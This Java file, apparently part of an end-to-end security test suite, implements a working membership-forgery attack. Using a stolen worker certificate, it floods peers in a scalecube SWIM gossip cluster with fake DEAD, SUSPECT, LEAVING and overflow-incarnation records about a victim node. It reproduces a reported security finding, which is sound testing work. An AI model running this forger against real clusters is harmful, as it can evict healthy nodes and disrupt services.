package io.jswarm.e2e.cluster;

import io.jswarm.encryption.NodeIdentity;
import io.jswarm.encryption.tls.IdentityKeyManager;
import io.jswarm.gossip.transport.TlsTransport;
import io.jswarm.gossip.wire.WireCodec;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import io.scalecube.cluster.Member;
import io.scalecube.cluster.gossip.GossipProtocolImpl;
import io.scalecube.cluster.gossip.JswarmWireAccess.GossipItem;
import io.scalecube.cluster.membership.JswarmWireAccess;
import io.scalecube.cluster.membership.MemberStatus;
import io.scalecube.cluster.membership.MembershipProtocolImpl;
import io.scalecube.cluster.transport.api.Message;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.UUID;

/**
 * The attacker of finding 4 (issue 9): holds a joined worker's key and certificate (read from its state
 * directory), connects over TLS to other members' gossip ports from inside that worker's host, and for
 * {@code SECONDS} sends forged SWIM claims about the victim: DEAD (as scalecube's own SYNC_ACK), SUSPECT and
 * LEAVING records, a near-overflow incarnation, gossips in the victim's and in its own name; and to the victim
 * itself, suspicions at ever higher incarnations to make it refute. Prints "SENT n" (rounds) at the end.
 * Usage: {@code CERTDIR BIND_IP VICTIM_ID VICTIM_ADDR SECONDS OTHER_ADDR...}.
 */
public final class SwimForger {
    public static void main(String[] args) throws Exception {
        NodeIdentity id = NodeIdentity.load(Path.of(args[0]));
        String victimId = args[2];
        String victimAddr = args[3];
        Duration length = Duration.ofSeconds(Long.parseLong(args[4]));
        List<String> others = List.of(args).subList(5, args.length);
        TlsTransport t = new TlsTransport(new IdentityKeyManager(id),
                new InetSocketAddress(InetAddress.ofLiteral(args[1]), 0), x -> false, 1 << 20, Duration.ofSeconds(2),
                new WireCodec(), new SimpleMeterRegistry());
        t.start().block();
        String self = t.address();
        Member victim = new Member(victimId, null, victimAddr, "jswarm-" + id.clusterId());
        int base = incarnation(t, victimAddr, victimId);
        System.out.println("victim incarnation " + base);
        long until = System.nanoTime() + length.toNanos();
        int round = 0;
        while (System.nanoTime() < until) {
            for (String to : others) {
                send(t, to, syncAck(self, record(victim, MemberStatus.DEAD, 0)));
                send(t, to, syncAck(self, record(victim, MemberStatus.SUSPECT, base + 1 + round),
                        record(victim, MemberStatus.LEAVING, base + 2 + round)));
                send(t, to, syncAck(self, record(victim, MemberStatus.ALIVE, Integer.MAX_VALUE - 1)));
                send(t, to, gossip(self, id.nodeId(), victimId, round, record(victim, MemberStatus.SUSPECT, base + 5)));
                send(t, to, gossip(self, id.nodeId(), id.nodeId(), round, record(victim, MemberStatus.DEAD, 0)));
            }
            send(t, victimAddr, syncAck(self, record(victim, MemberStatus.SUSPECT, base + round)));
            send(t, victimAddr, syncAck(self, record(victim, MemberStatus.ALIVE, Integer.MAX_VALUE - 1)));
            round++;
            Thread.sleep(50);
        }
        System.out.println("SENT " + round);
        t.stop().block();
    }

    private static Object record(Member m, MemberStatus status, int incarnation) {
        return JswarmWireAccess.record(m, status, incarnation);
    }

    private static Message syncAck(String sender, Object... records) {
        return Message.withData(JswarmWireAccess.syncData(List.of(records)))
                .qualifier(MembershipProtocolImpl.SYNC_ACK).sender(sender).build();
    }

    private static Message gossip(String sender, String from, String gossiper, long seq, Object record) {
        Message inner = Message.withData(record).qualifier(MembershipProtocolImpl.MEMBERSHIP_GOSSIP).build();
        Object req = io.scalecube.cluster.gossip.JswarmWireAccess.gossipRequest(
                List.of(new GossipItem(gossiper, inner, 10_000_000L + seq)), from);
        return Message.withData(req).qualifier(GossipProtocolImpl.GOSSIP_REQ).sender(sender).build();
    }

    private static void send(TlsTransport t, String to, Message m) {
        try {
            t.send(to, m).block(Duration.ofSeconds(3));
        } catch (RuntimeException e) {
            System.out.println("send to " + to + " failed: " + e);
        }
    }

    /** The victim's own incarnation, from its SYNC_ACK answer to an empty SYNC. */
    private static int incarnation(TlsTransport t, String at, String of) {
        Message ask = Message.withData(JswarmWireAccess.syncData(List.of())).qualifier(MembershipProtocolImpl.SYNC)
                .correlationId(UUID.randomUUID().toString()).sender(t.address()).build();
        Message reply = t.requestResponse(at, ask).block(Duration.ofSeconds(10));
        for (Object r : JswarmWireAccess.syncRecords(reply.data())) {
            if (JswarmWireAccess.recordMember(r).id().equals(of)) {
                return JswarmWireAccess.recordIncarnation(r);
            }
        }
        throw new IllegalStateException(of + " not in the table at " + at);
    }
}
